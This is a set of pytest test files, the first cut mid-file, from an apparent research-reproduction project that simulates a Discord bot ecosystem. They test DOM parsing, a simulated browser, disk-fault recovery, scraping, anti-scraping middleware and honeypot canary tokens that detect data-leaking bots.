    def test_invalid_selector_raises(self, doc):
        with pytest.raises(ValueError):
            doc.select("!!!")


class TestElementHelpers:
    def test_links(self, doc):
        links = doc.select_one("#main").links()
        assert "https://megabot.sim/" in links
        assert "/privacy" in links

    def test_classes_frozen_set(self, doc):
        assert doc.select_one("#main").classes == {"wrap", "outer"}

    def test_iter_includes_self(self, doc):
        main = doc.select_one("#main")
        assert main in list(main.iter())

    def test_own_text_excludes_children(self):
        doc = parse_html("<div>own<p>child</p></div>")
        div = doc.select_one("div")
        assert div.own_text.strip() == "own"
        assert div.text == "own child"

    def test_repr_mentions_id_and_class(self, doc):
        text = repr(doc.select_one("#main"))
        assert "#main" in text and "wrap" in text
