"""Tests for the Selenium-like browser: locators, waits, exceptions."""

import pytest

from repro.web.browser import (
    Browser,
    By,
    NoSuchElementException,
    StaleElementReferenceException,
    TimeoutException,
    WebDriverException,
    WebDriverWait,
    presence_of_element_located,
)
from repro.web.http import Response
from repro.web.network import HostConditions
from repro.web.server import VirtualHost


@pytest.fixture
def browser(internet):
    host = VirtualHost("site")
    host.add_route(
        "/",
        lambda request: Response.html(
            "<html><head><title>Home</title></head><body>"
            '<a id="next" href="/second">Go to second page</a>'
            '<p class="note">first</p></body></html>'
        ),
    )
    host.add_route(
        "/second",
        lambda request: Response.html(
            "<html><head><title>Second</title></head><body>"
            '<h1 class="headline">Arrived</h1></body></html>'
        ),
    )
    internet.register("site.sim", host)
    internet.register("slow.sim", _slow(), HostConditions(base_latency=30.0))
    return Browser(internet, client_id="tester")


def _slow() -> VirtualHost:
    host = VirtualHost("slow")
    host.add_route("/", lambda request: Response.html("<html></html>"))
    return host


class TestNavigation:
    def test_get_sets_state(self, browser):
        browser.get("https://site.sim/")
        assert browser.title == "Home"
        assert browser.status_code == 200
        assert str(browser.current_url) == "https://site.sim/"
        assert "first" in browser.page_source

    def test_timeout_maps_to_selenium_exception(self, browser):
        with pytest.raises(TimeoutException):
            browser.get("https://slow.sim/")

    def test_unknown_host_maps_to_webdriver_exception(self, browser):
        with pytest.raises(WebDriverException):
            browser.get("https://missing.sim/")

    def test_pages_loaded_counter(self, browser):
        browser.get("https://site.sim/")
        browser.get("https://site.sim/second")
        assert browser.pages_loaded == 2


class TestLocators:
    def test_css_selector(self, browser):
        browser.get("https://site.sim/")
        assert browser.find_element(By.CSS_SELECTOR, "p.note").text == "first"

    def test_id_locator(self, browser):
        browser.get("https://site.sim/")
        assert browser.find_element(By.ID, "next").tag_name == "a"

    def test_class_name_locator(self, browser):
        browser.get("https://site.sim/")
        assert browser.find_element(By.CLASS_NAME, "note").text == "first"

    def test_tag_name_locator(self, browser):
        browser.get("https://site.sim/")
        assert browser.find_element(By.TAG_NAME, "a").get_attribute("id") == "next"

    def test_link_text_exact(self, browser):
        browser.get("https://site.sim/")
        element = browser.find_element(By.LINK_TEXT, "Go to second page")
        assert element.get_attribute("href") == "/second"

    def test_partial_link_text(self, browser):
        browser.get("https://site.sim/")
        assert browser.find_element(By.PARTIAL_LINK_TEXT, "second").tag_name == "a"

    def test_missing_element_raises(self, browser):
        browser.get("https://site.sim/")
        with pytest.raises(NoSuchElementException):
            browser.find_element(By.ID, "ghost")

    def test_find_elements_empty_ok(self, browser):
        browser.get("https://site.sim/")
        assert browser.find_elements(By.CSS_SELECTOR, ".ghost") == []

    def test_nested_find(self, browser):
        browser.get("https://site.sim/")
        body = browser.find_element(By.TAG_NAME, "body")
        assert body.find_element(By.ID, "next").tag_name == "a"


class TestClickAndStaleness:
    def test_click_navigates(self, browser):
        browser.get("https://site.sim/")
        browser.find_element(By.ID, "next").click()
        assert browser.title == "Second"
        assert str(browser.current_url) == "https://site.sim/second"

    def test_element_goes_stale_after_navigation(self, browser):
        browser.get("https://site.sim/")
        element = browser.find_element(By.ID, "next")
        browser.get("https://site.sim/second")
        with pytest.raises(StaleElementReferenceException):
            _ = element.text

    def test_click_non_link_raises(self, browser):
        browser.get("https://site.sim/")
        with pytest.raises(WebDriverException):
            browser.find_element(By.CSS_SELECTOR, "p.note").click()


class TestWaits:
    def test_wait_returns_immediately_when_present(self, browser, clock):
        browser.get("https://site.sim/")
        start = clock.now()
        element = WebDriverWait(browser, 5.0).until(presence_of_element_located(By.ID, "next"))
        assert element.tag_name == "a"
        assert clock.now() == start

    def test_wait_times_out(self, browser, clock):
        browser.get("https://site.sim/")
        with pytest.raises(TimeoutException):
            WebDriverWait(browser, 2.0, poll_frequency=0.5).until(
                presence_of_element_located(By.ID, "never")
            )
        assert clock.now() >= 2.0

    def test_wait_rejects_nonpositive_timeout(self, browser):
        with pytest.raises(ValueError):
            WebDriverWait(browser, 0)

    def test_wait_custom_condition(self, browser):
        browser.get("https://site.sim/")
        result = WebDriverWait(browser, 1.0).until(lambda b: b.title == "Home" and "yes")
        assert result == "yes"
