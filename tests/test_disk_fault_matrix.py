"""Systematic storage-fault injection matrix.

The contract under test: for **every** (consultation site × fault kind)
cell the storage layer registers (:func:`repro.core.storage.matrix_cells`),
a run suffering that single injected fault either

- completes **byte-identical** to its never-faulted golden, or
- dies loudly with a typed :class:`~repro.core.storage.StorageError`
  (driver exit code :data:`~repro.core.storage.STORAGE_EXIT_CODE`), after
  which a clean re-run *recovers* to the byte-identical golden result —

and never, in any cell, produces a silently wrong result.

Pipeline-owned artifacts (checkpoint / journal / spill) run through the
same subprocess driver as the crash matrix — in-process faults would leak
shim state into the recovery run.  The crawl checkpoint pair and the
serving state snapshot are exercised in-process against their own golden
reloads.

``DISK_MATRIX_BOTS=N`` scales the pipeline scenario up (the CI
disk-fault-smoke job runs N=2000 under hostile *network* chaos as well) on
a representative cell subset; unset, the full matrix runs at tier-1 scale.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

import repro
from repro.core.storage import (
    ENV_DISK_FAULT,
    ENV_DISK_RECORD,
    STORAGE_EXIT_CODE,
    OneShotFault,
    StorageError,
    install_faults,
    matrix_cells,
    storage_sites,
    uninstall_faults,
)

SRC = Path(repro.__file__).resolve().parents[1]
DRIVER = [sys.executable, "-m", "repro.core.crash_driver"]

#: Pipeline-owned artifacts exercised through the subprocess scenario.
PIPELINE_ARTIFACTS = ("checkpoint", "journal", "spill")

SCALE = int(os.environ.get("DISK_MATRIX_BOTS", "0"))

#: Streamed + checkpointed + journaled under hostile network chaos: every
#: pipeline storage site is consulted, and disk faults land on top of an
#: already-adversarial run.  Mirrors the crash matrix's scale reasoning.
BASE_CONFIG = {
    "n_bots": SCALE or 48,
    "seed": 7,
    "honeypot_sample_size": 8,
    "validation_sample_size": 10,
    "chaos_profile": "hostile",
    "chaos_seed": 1,
    "adversarial_bots": 2,
    "stream": True,
    "chunk_size": 16 if not SCALE else 256,
}

#: At CI smoke scale, run this representative subset instead of all cells:
#: one loud kind and one silent kind per artifact.
SMOKE_CELLS = (
    ("checkpoint.write", "enospc"),
    ("checkpoint.settle", "rot"),
    ("journal.write", "short"),
    ("journal.fsync", "lost"),
    ("spill.fsync", "lost"),
    ("spill.settle", "rot"),
)


def _pipeline_cells() -> list[tuple[str, str]]:
    cells = [
        (site, kind)
        for site, kind in matrix_cells()
        if site.rsplit(".", 1)[0] in PIPELINE_ARTIFACTS
    ]
    if SCALE:
        return [cell for cell in cells if cell in SMOKE_CELLS]
    return cells


def _env(extra: dict[str, str] | None = None) -> dict[str, str]:
    env = dict(os.environ)
    env["PYTHONPATH"] = str(SRC) + os.pathsep + env.get("PYTHONPATH", "")
    env.pop(ENV_DISK_FAULT, None)
    env.pop(ENV_DISK_RECORD, None)
    if extra:
        env.update(extra)
    return env


def _run_driver(workdir: Path, config: dict, extra_env: dict[str, str] | None = None) -> subprocess.CompletedProcess:
    config_path = workdir / "config.json"
    config_path.write_text(json.dumps(config))
    return subprocess.run(
        DRIVER + [str(config_path), str(workdir / "out.json")],
        env=_env(extra_env),
        capture_output=True,
        text=True,
        timeout=600,
    )


def _scenario_config(workdir: Path) -> dict:
    config = dict(BASE_CONFIG)
    config["checkpoint_path"] = str(workdir / "ckpt.json")
    config["journal_path"] = str(workdir / "journal.wal")
    return config


@pytest.fixture(scope="module")
def golden(tmp_path_factory) -> tuple[bytes, set[str]]:
    """Golden comparable JSON plus the storage sites the scenario consults."""
    workdir = tmp_path_factory.mktemp("golden")
    record = workdir / "sites.txt"
    proc = _run_driver(workdir, _scenario_config(workdir), {ENV_DISK_RECORD: str(record)})
    assert proc.returncode == 0, f"golden run failed:\n{proc.stderr}"
    consulted = set(record.read_text().split()) if record.exists() else set()
    return (workdir / "out.json").read_bytes(), consulted


def test_scenario_consults_every_pipeline_site(golden) -> None:
    """A site the scenario never reaches is a hole in the matrix, not a pass."""
    _, consulted = golden
    expected = {
        site for site in storage_sites() if site.rsplit(".", 1)[0] in PIPELINE_ARTIFACTS
    }
    assert expected <= consulted


@pytest.mark.parametrize("site,kind", _pipeline_cells())
def test_single_fault_is_golden_or_typed_then_recovers(site, kind, golden, tmp_path) -> None:
    golden_bytes, _ = golden
    config = _scenario_config(tmp_path)
    faulted = _run_driver(tmp_path, config, {ENV_DISK_FAULT: f"{site}:{kind}"})
    if faulted.returncode == 0:
        # The fault did not stop the run — then the result must be exactly
        # the golden's bytes: a completed run is never silently wrong.
        assert (tmp_path / "out.json").read_bytes() == golden_bytes, (
            f"{site}:{kind}: faulted run completed with a divergent result"
        )
    else:
        assert faulted.returncode == STORAGE_EXIT_CODE, (
            f"{site}:{kind}: exited {faulted.returncode} "
            f"(wanted 0 or typed {STORAGE_EXIT_CODE}):\n{faulted.stderr}"
        )
        assert "STORAGE_ERROR" in faulted.stderr
    # Recovery: a clean re-run over whatever artifacts the faulted run left
    # behind (torn, rotten, empty or fine) must converge on the golden.
    resumed = _run_driver(tmp_path, config)
    assert resumed.returncode == 0, f"{site}:{kind}: recovery run failed:\n{resumed.stderr}"
    assert (tmp_path / "out.json").read_bytes() == golden_bytes, (
        f"{site}:{kind}: recovery diverged from golden"
    )


# -- crawl checkpoint pair (in-process) --------------------------------------


def _crawl_bots():
    from tests.test_torn_tail_fuzz import _bot

    return [_bot(index) for index in range(1, 6)]


def _record_crawl(path: Path) -> None:
    """The reference crawl: two pages across two saves."""
    from repro.scraper.checkpoint import CrawlCheckpoint

    bots = _crawl_bots()
    checkpoint = CrawlCheckpoint.load_or_empty(path)
    if 1 not in checkpoint.completed_pages:
        checkpoint.record_page(1, bots[:3])
        checkpoint.save(path)
    if 2 not in checkpoint.completed_pages:
        checkpoint.record_page(2, bots[3:])
        checkpoint.save(path)


def _crawl_cells() -> list[tuple[str, str]]:
    return [
        (site, kind)
        for site, kind in matrix_cells()
        if site.rsplit(".", 1)[0] in ("crawl.meta", "crawl.bots")
    ]


@pytest.mark.parametrize("site,kind", _crawl_cells())
def test_crawl_checkpoint_fault_matrix(site, kind, tmp_path) -> None:
    from repro.scraper.checkpoint import CrawlCheckpoint

    golden_ids = [bot.listing_id for bot in _crawl_bots()]
    path = tmp_path / "crawl.ckpt"
    install_faults(OneShotFault(site, kind))
    try:
        _record_crawl(path)
    except StorageError:
        pass  # loud and typed: the crawl loop would retry the page
    finally:
        uninstall_faults()
    # Recovery: resume the crawl over whatever landed, then reload.
    _record_crawl(path)
    loaded = CrawlCheckpoint.load_or_empty(path)
    missing = [page for page in (1, 2) if page not in loaded.completed_pages]
    assert not missing, f"{site}:{kind}: recovery left pages {missing} uncrawled"
    assert [bot.listing_id for bot in loaded.bots] == golden_ids, (
        f"{site}:{kind}: recovered crawl diverged"
    )


# -- serving state snapshot (in-process) -------------------------------------


def _serving_cells() -> list[tuple[str, str]]:
    return [
        (site, kind)
        for site, kind in matrix_cells()
        if site.rsplit(".", 1)[0] == "serving.state"
    ]


@pytest.mark.parametrize("site,kind", _serving_cells())
def test_serving_state_fault_matrix(site, kind, internet, tmp_path) -> None:
    from repro.ecosystem.generator import EcosystemConfig, generate_ecosystem
    from repro.serving.service import ServicePolicy, VettingService

    bots = generate_ecosystem(EcosystemConfig(n_bots=10, seed=3)).bots
    state = tmp_path / "gate.state"

    def build() -> VettingService:
        return VettingService(
            internet, bots, policy=ServicePolicy(warmup=0.0), seed=3,
            state_path=state, register=False,
        )

    service = build()
    verdict = {"bot": bots[0].name, "verdict": "approved"}
    service.cache.store(bots[0], verdict, now=internet.clock.now())
    install_faults(OneShotFault(site, kind))
    typed = False
    try:
        service.persist_state()
    except StorageError:
        typed = True
    finally:
        uninstall_faults()

    reborn = build()
    recovered = reborn.cache.entries.get(bots[0].name)
    if recovered is not None:
        # The snapshot survived the fault: it must be the exact verdict.
        assert recovered.payload == verdict, f"{site}:{kind}: reloaded a wrong verdict"
    else:
        # Cold start: the damage was detected, scrubbed and recorded —
        # never a half-trusted cache.
        assert typed or any(record.stage == "storage" for record in reborn.ledger.records), (
            f"{site}:{kind}: snapshot lost without a typed error or a scrub record"
        )
    # The service re-earns its state and the next persist/reload round-trips.
    reborn.cache.store(bots[0], verdict, now=internet.clock.now())
    reborn.persist_state()
    healed = build()
    assert healed.cache.entries[bots[0].name].payload == verdict
