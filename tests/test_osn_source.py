"""Tests for the reddit.sim OSN site and the scraped feed source."""

import random

import pytest

from repro.ecosystem.corpus import style_metrics
from repro.honeypot.feed import alternation_violations, post_feed
from repro.honeypot.osn_source import OsnFeedSource, RedditScraper
from repro.honeypot.personas import create_personas, join_guild_with_verification
from repro.sites.reddit import REDDIT_HOSTNAME, SUBREDDITS, RedditSite
from repro.web.client import HttpClient
from repro.web.dom import parse_html


@pytest.fixture
def reddit(internet):
    site = RedditSite(seed=9)
    site.register(internet)
    return site


class TestRedditSite:
    def test_front_page_lists_subs(self, internet, reddit):
        body = HttpClient(internet).get(f"https://{REDDIT_HOSTNAME}/").body
        page = parse_html(body)
        links = [node.text for node in page.select("a.sub-link")]
        assert links == [f"r/{sub}" for sub in SUBREDDITS]

    def test_subreddit_page_has_comments(self, internet, reddit):
        body = HttpClient(internet).get(f"https://{REDDIT_HOSTNAME}/r/gaming").body
        page = parse_html(body)
        comments = page.select("p.comment-body")
        assert len(comments) == reddit.comment_count("gaming")
        assert all(node.text for node in comments)

    def test_unknown_subreddit_404(self, internet, reddit):
        assert HttpClient(internet).get(f"https://{REDDIT_HOSTNAME}/r/nope").status == 404

    def test_deterministic_content(self, internet):
        a = RedditSite(seed=4)
        b = RedditSite(seed=4)
        assert a._threads == b._threads


class TestOsnFeedSource:
    def test_scrape_collects_pool(self, internet, reddit):
        source = OsnFeedSource.scrape(internet, seed=1)
        expected = sum(reddit.comment_count(sub) for sub in SUBREDDITS)
        assert len(source) == expected

    def test_cycles_through_pool(self, internet, reddit):
        source = OsnFeedSource.scrape(internet, subreddits=("gaming",), seed=1)
        first_cycle = [source.next_message() for _ in range(len(source))]
        second_cycle = [source.next_message() for _ in range(len(source))]
        assert first_cycle == second_cycle

    def test_empty_pool_raises(self):
        with pytest.raises(ValueError):
            OsnFeedSource().next_message()

    def test_scraped_messages_keep_im_style(self, internet, reddit):
        source = OsnFeedSource.scrape(internet, seed=1)
        metrics = style_metrics(source.messages)
        assert metrics["mean_words"] < 12
        assert metrics["informal_fraction"] > 0.4

    def test_missing_site_yields_empty(self, internet):
        scraper = RedditScraper(internet)
        assert scraper.fetch_comments("gaming") == []


class TestOsnBackedFeed:
    def test_feed_posts_scraped_messages(self, platform, internet, reddit):
        source = OsnFeedSource.scrape(internet, subreddits=("music",), seed=2)
        owner = platform.create_user("o", phone_verified=True)
        guild = platform.create_guild(owner, "G")
        personas = create_personas(platform, 4, random.Random(1))
        join_guild_with_verification(platform, personas, guild)
        channel = guild.text_channels()[0]
        messages = post_feed(
            platform, guild, channel.channel_id, personas, 10, random.Random(3),
            message_source=source.next_message,
        )
        assert len(messages) == 10
        assert alternation_violations(messages) == 0
        pool = set(source.messages)
        assert all(message.content in pool for message in messages)


class TestOsnBackedCampaign:
    def test_campaign_with_scraped_feed_catches_melonian(self, clock, internet, reddit):
        from repro.discordsim.platform import DiscordPlatform
        from repro.ecosystem.generator import EcosystemConfig, generate_ecosystem
        from repro.honeypot import HoneypotExperiment

        platform = DiscordPlatform(clock)
        ecosystem = generate_ecosystem(EcosystemConfig(n_bots=200, seed=66, honeypot_window=30))
        source = OsnFeedSource.scrape(internet, seed=6)
        experiment = HoneypotExperiment(platform, internet)
        report = experiment.run(ecosystem.top_voted(30), feed_source=source.next_message)
        assert [outcome.bot_name for outcome in report.flagged_bots] == ["Melonian"]
