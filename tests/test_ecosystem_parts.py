"""Tests for ecosystem building blocks: names, policies, repos, corpus."""

import random

import pytest

from repro.ecosystem import names as naming
from repro.ecosystem.corpus import ConversationGenerator, style_metrics
from repro.ecosystem.policies import (
    GENERIC_POLICY_VARIANTS,
    PolicySpec,
    render_policy,
    sample_policy_spec,
)
from repro.ecosystem.repos import RepoKind, generate_repo
from repro.traceability.keywords import categories_in_text


class TestNames:
    def test_bot_names_unique(self):
        rng = random.Random(1)
        taken: set[str] = set()
        names = [naming.bot_name(rng, taken) for _ in range(12000)]
        assert len(set(names)) == 12000

    def test_developer_tags_have_discriminator(self):
        rng = random.Random(1)
        tag = naming.developer_tag(rng, set())
        name, _, discriminator = tag.partition("#")
        assert name and discriminator.isdigit() and len(discriminator) == 4

    def test_tags_sampled_from_taxonomy(self):
        rng = random.Random(1)
        for _ in range(20):
            tags = naming.bot_tags(rng)
            assert 1 <= len(tags) <= 4
            assert all(tag in naming.TAGS for tag in tags)

    def test_description_mentions_purpose(self):
        rng = random.Random(1)
        text = naming.bot_description(rng, "MegaBot", ["music"])
        assert "music" in text or "MegaBot" in text


class TestPolicies:
    def test_expected_class_rules(self):
        absent = PolicySpec(present=False)
        assert absent.expected_class == "broken"
        dead_link = PolicySpec(present=True, categories=frozenset({"use"}), link_valid=False)
        assert dead_link.expected_class == "broken"
        partial = PolicySpec(present=True, categories=frozenset({"use"}))
        assert partial.expected_class == "partial"
        complete = PolicySpec(present=True, categories=frozenset({"collect", "use", "retain", "disclose"}))
        assert complete.expected_class == "complete"

    def test_render_matches_ground_truth(self):
        rng = random.Random(3)
        for _ in range(200):
            size = rng.choice([1, 2, 3])
            categories = frozenset(rng.sample(["collect", "use", "retain", "disclose"], size))
            spec = PolicySpec(
                present=True,
                categories=categories,
                generic=rng.random() < 0.5,
                tailored=rng.random() < 0.3,
            )
            text = render_policy(spec, "TestBot", rng)
            assert categories_in_text(text) == categories

    def test_generic_variants_internally_consistent(self):
        for categories, text in GENERIC_POLICY_VARIANTS:
            assert categories_in_text(text) == categories

    def test_absent_policy_renders_empty(self):
        assert render_policy(PolicySpec(present=False), "X", random.Random(0)) == ""

    def test_sampler_respects_absence(self):
        spec = sample_policy_spec(random.Random(0), False, False, 0.0, {1: 1.0}, 0.5)
        assert not spec.present and spec.expected_class == "broken"

    def test_sampler_complete_fraction_one(self):
        spec = sample_policy_spec(random.Random(0), True, True, 1.0, {1: 1.0}, 0.5)
        assert spec.expected_class == "complete"


class TestRepos:
    def test_js_checked_contains_table3_pattern(self):
        rng = random.Random(1)
        found_any = False
        for seed in range(10):
            spec = generate_repo(RepoKind.VALID_CODE, "dev", f"Bot{seed}", "JavaScript", True, random.Random(seed))
            joined = "\n".join(content for path, content in spec.files.items() if path.endswith(".js"))
            assert any(
                pattern in joined
                for pattern in (".hasPermission(", ".has(", "member.roles.cache", "userPermissions")
            )
            found_any = True
        assert found_any

    def test_js_unchecked_clean(self):
        for seed in range(10):
            spec = generate_repo(RepoKind.VALID_CODE, "dev", f"Bot{seed}", "JavaScript", False, random.Random(seed))
            joined = "\n".join(spec.files.values())
            for pattern in (".hasPermission(", ".has(", "member.roles.cache", "userPermissions"):
                assert pattern not in joined

    def test_python_checked_and_unchecked(self):
        checked = generate_repo(RepoKind.VALID_CODE, "dev", "PyBot", "Python", True, random.Random(1))
        assert ".has(" in "\n".join(checked.files.values())
        unchecked = generate_repo(RepoKind.VALID_CODE, "dev", "PyBot2", "Python", False, random.Random(1))
        joined = "\n".join(unchecked.files.values())
        for pattern in (".hasPermission(", ".has(", "member.roles.cache", "userPermissions"):
            assert pattern not in joined

    def test_readme_only_has_no_source(self):
        spec = generate_repo(RepoKind.README_ONLY, "dev", "DocBot", None, False, random.Random(1))
        assert not spec.has_source_code
        assert set(spec.files) == {"README.md", "CHANGELOG.md", "LICENSE"}

    def test_other_language_check_flag_ignored(self):
        spec = generate_repo(RepoKind.VALID_CODE, "dev", "GoBot", "Go", True, random.Random(1))
        assert not spec.has_check_api  # only JS/Python are modelled

    def test_language_breakdown_dominant(self):
        spec = generate_repo(RepoKind.VALID_CODE, "dev", "JsBot", "JavaScript", False, random.Random(1))
        assert max(spec.language_breakdown, key=spec.language_breakdown.get) == "JavaScript"

    def test_profile_kinds_have_profile_urls(self):
        spec = generate_repo(RepoKind.USER_PROFILE, "dev", "ProfBot", None, False, random.Random(1))
        assert spec.url == "https://github.sim/dev"

    def test_unsupported_language_raises(self):
        with pytest.raises(ValueError):
            generate_repo(RepoKind.VALID_CODE, "dev", "X", "COBOL", False, random.Random(1))


class TestCorpus:
    def test_messages_short_and_informal(self):
        generator = ConversationGenerator(random.Random(5))
        texts = [message.text for message in generator.batch(300)]
        metrics = style_metrics(texts)
        assert metrics["mean_words"] < 12  # IM chat, not email
        assert metrics["informal_fraction"] > 0.4

    def test_reactions_follow_statements(self):
        generator = ConversationGenerator(random.Random(5))
        batch = generator.batch(500)
        assert any(message.is_reaction for message in batch)

    def test_deterministic(self):
        a = [m.text for m in ConversationGenerator(random.Random(9)).batch(50)]
        b = [m.text for m in ConversationGenerator(random.Random(9)).batch(50)]
        assert a == b

    def test_style_metrics_empty(self):
        assert style_metrics([]) == {"mean_words": 0.0, "informal_fraction": 0.0}
