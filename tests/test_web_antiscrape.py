"""Tests for anti-scraping middleware: rate limits, walls, flakiness."""

import pytest

from repro.web.antiscrape import (
    CAPTCHA_CLEARANCE_COOKIE,
    CaptchaWallMiddleware,
    EmailVerificationMiddleware,
    FlakyMiddleware,
    RateLimitMiddleware,
)
from repro.web.captcha import CaptchaService, TwoCaptchaClient
from repro.web.dom import parse_html
from repro.web.http import Request, Response, Url
from repro.web.server import VirtualHost


def _host_with(*middleware) -> VirtualHost:
    host = VirtualHost("store")
    host.add_route("/", lambda request: Response.text("content"))
    host.add_route("/page", lambda request: Response.text("content"))
    for item in middleware:
        host.add_middleware(item)
    return host


def _get(host: VirtualHost, path: str = "/", client: str = "c", url_extra: str = "") -> Response:
    return host.handle(Request("GET", Url.parse(f"https://store.sim{path}{url_extra}"), client_id=client))


class TestRateLimit:
    def test_allows_under_limit(self, clock):
        host = _host_with(RateLimitMiddleware(clock, max_requests=3, window=10.0))
        assert all(_get(host).status == 200 for _ in range(3))

    def test_rejects_over_limit_with_retry_after(self, clock):
        host = _host_with(RateLimitMiddleware(clock, max_requests=2, window=10.0))
        _get(host)
        _get(host)
        response = _get(host)
        assert response.status == 429
        assert float(response.headers["Retry-After"]) > 0

    def test_window_slides(self, clock):
        limiter = RateLimitMiddleware(clock, max_requests=1, window=5.0)
        host = _host_with(limiter)
        assert _get(host).status == 200
        assert _get(host).status == 429
        clock.advance(6.0)
        assert _get(host).status == 200

    def test_limits_are_per_client(self, clock):
        host = _host_with(RateLimitMiddleware(clock, max_requests=1, window=10.0))
        assert _get(host, client="a").status == 200
        assert _get(host, client="b").status == 200
        assert _get(host, client="a").status == 429

    def test_invalid_config(self, clock):
        with pytest.raises(ValueError):
            RateLimitMiddleware(clock, max_requests=0, window=1.0)


class TestCaptchaWall:
    def _solve_and_retry(self, host, response, clock, path="/", client="c"):
        page = parse_html(response.body)
        element = page.select_one("#captcha-challenge")
        challenge_id = element.get("data-challenge-id")
        prompt = element.select_one("p.prompt").text
        answer = TwoCaptchaClient(clock, accuracy=1.0).solve(prompt)
        return _get(host, path, client=client, url_extra=f"?captcha_id={challenge_id}&captcha_answer={answer}")

    def test_first_request_challenged(self, clock):
        service = CaptchaService(clock)
        host = _host_with(CaptchaWallMiddleware(service, challenge_every=10, clearance_requests=5))
        response = _get(host)
        assert response.status == 403
        assert "captcha-challenge" in response.body

    def test_solving_grants_clearance(self, clock):
        service = CaptchaService(clock)
        host = _host_with(CaptchaWallMiddleware(service, challenge_every=10, clearance_requests=3))
        challenged = _get(host)
        cleared = self._solve_and_retry(host, challenged, clock)
        assert cleared.status == 200
        assert CAPTCHA_CLEARANCE_COOKIE in (cleared.headers.get("Set-Cookie") or "")
        # Clearance covers the next requests without re-challenge.
        assert _get(host).status == 200

    def test_wrong_answer_rechallenged(self, clock):
        service = CaptchaService(clock)
        host = _host_with(CaptchaWallMiddleware(service))
        challenged = _get(host)
        page = parse_html(challenged.body)
        challenge_id = page.select_one("#captcha-challenge").get("data-challenge-id")
        response = _get(host, url_extra=f"?captcha_id={challenge_id}&captcha_answer=0")
        assert response.status == 403

    def test_clearance_expires_after_budget(self, clock):
        service = CaptchaService(clock)
        wall = CaptchaWallMiddleware(service, challenge_every=1000, clearance_requests=2)
        host = _host_with(wall)
        challenged = _get(host)
        self._solve_and_retry(host, challenged, clock)
        assert _get(host).status == 200
        assert _get(host).status == 200
        # Budget exhausted: counting resumes; next challenge arrives periodically.
        statuses = [_get(host).status for _ in range(1000)]
        assert 403 in statuses


class TestEmailWall:
    def test_interstitial_then_verify(self, clock):
        host = _host_with(EmailVerificationMiddleware())
        first = _get(host)
        assert first.status == 403
        assert "verify-link" in first.body
        verified = _get(host, EmailVerificationMiddleware.VERIFY_PATH)
        assert verified.status == 200
        assert _get(host).status == 200

    def test_cookie_alone_suffices(self, clock):
        host = _host_with(EmailVerificationMiddleware())
        request = Request("GET", Url.parse("https://store.sim/"), client_id="other")
        request.headers["Cookie"] = "email_verified=1"
        assert host.handle(request).status == 200


class TestFlaky:
    def test_zero_rate_never_fails(self):
        host = _host_with(FlakyMiddleware(0.0))
        assert all(_get(host).status == 200 for _ in range(50))

    def test_rate_injects_503(self):
        middleware = FlakyMiddleware(0.5, seed=3)
        host = _host_with(middleware)
        statuses = [_get(host).status for _ in range(100)]
        assert statuses.count(503) == middleware.failures_injected
        assert 20 < statuses.count(503) < 80

    def test_invalid_rate_rejected(self):
        with pytest.raises(ValueError):
            FlakyMiddleware(1.5)
