"""Tests for the honeypot: tokens, console, feed, environments, campaign."""

import random

import pytest

from repro.discordsim import behaviors
from repro.discordsim.platform import DiscordPlatform
from repro.ecosystem.generator import EcosystemConfig, generate_ecosystem
from repro.honeypot import (
    CanaryConsole,
    HoneypotExperiment,
    TokenFactory,
    TokenKind,
    create_personas,
    post_feed,
)
from repro.honeypot.environment import provision_environment
from repro.honeypot.feed import alternation_violations
from repro.honeypot.personas import join_guild_with_verification
from repro.web.captcha import TwoCaptchaClient
from repro.web.client import HttpClient


class TestTokens:
    def test_token_ids_unique(self):
        factory = TokenFactory()
        ids = {factory.mint(TokenKind.URL, "ctx").token_id for _ in range(200)}
        assert len(ids) == 200

    def test_trigger_url_carries_kind(self):
        token = TokenFactory().mint(TokenKind.PDF, "guild-x")
        assert token.token_id in token.trigger_url
        assert "kind=pdf" in token.trigger_url

    def test_email_address_format(self):
        token = TokenFactory().mint(TokenKind.EMAIL, "g")
        assert token.email_address.endswith("@canary.sim")

    def test_word_attachment_embeds_beacon(self):
        factory = TokenFactory()
        token = factory.mint(TokenKind.WORD, "g")
        attachment = factory.word_attachment(token, 1)
        assert attachment.extension == "docx"
        assert attachment.remote_resources == [token.trigger_url]
        assert attachment.metadata["template"] == token.trigger_url

    def test_pdf_attachment_embeds_beacon(self):
        factory = TokenFactory()
        token = factory.mint(TokenKind.PDF, "g")
        attachment = factory.pdf_attachment(token, 2)
        assert attachment.extension == "pdf"
        assert token.trigger_url in attachment.remote_resources


class TestConsole:
    def test_beacon_trigger_recorded(self, internet):
        console = CanaryConsole()
        console.register(internet)
        factory = TokenFactory()
        token = factory.mint(TokenKind.URL, "guild-a")
        console.deploy(token)
        HttpClient(internet, client_id="bot-9").get(token.trigger_url)
        assert len(console.triggers) == 1
        record = console.triggers[0]
        assert record.context == "guild-a"
        assert record.kind is TokenKind.URL
        assert record.client_id == "bot-9"

    def test_unknown_token_not_attributed(self, internet):
        console = CanaryConsole()
        console.register(internet)
        HttpClient(internet).get("https://canary.sim/t/deadbeef")
        assert console.triggers == []
        assert console.unknown_hits == 1

    def test_email_trigger_via_smtp(self, internet):
        console = CanaryConsole()
        console.register(internet)
        token = TokenFactory().mint(TokenKind.EMAIL, "guild-b")
        console.deploy(token)
        HttpClient(internet, client_id="bot-1").post(
            "https://mail.canary.sim/smtp", body=f"To: {token.email_address}\nSubject: hi\n\nhello"
        )
        assert console.triggers[0].kind is TokenKind.EMAIL
        assert console.triggers[0].context == "guild-b"

    def test_foreign_domain_mail_refused(self, internet):
        console = CanaryConsole()
        console.register(internet)
        response = HttpClient(internet).post("https://mail.canary.sim/smtp", body="To: a@other.sim\n\nx")
        assert response.status == 403

    def test_triggers_grouped_by_context(self, internet):
        console = CanaryConsole()
        console.register(internet)
        factory = TokenFactory()
        for context in ("g1", "g1", "g2"):
            token = factory.mint(TokenKind.URL, context)
            console.deploy(token)
            HttpClient(internet).get(token.trigger_url)
        grouped = console.triggers_by_context()
        assert len(grouped["g1"]) == 2 and len(grouped["g2"]) == 1


class TestFeed:
    def test_alternating_authors(self, platform):
        owner = platform.create_user("o", phone_verified=True)
        guild = platform.create_guild(owner, "G")
        personas = create_personas(platform, 5, random.Random(1))
        join_guild_with_verification(platform, personas, guild)
        channel = guild.text_channels()[0]
        messages = post_feed(platform, guild, channel.channel_id, personas, 25, random.Random(2))
        assert len(messages) == 25
        assert alternation_violations(messages) == 0

    def test_feed_advances_time(self, platform, clock):
        owner = platform.create_user("o", phone_verified=True)
        guild = platform.create_guild(owner, "G")
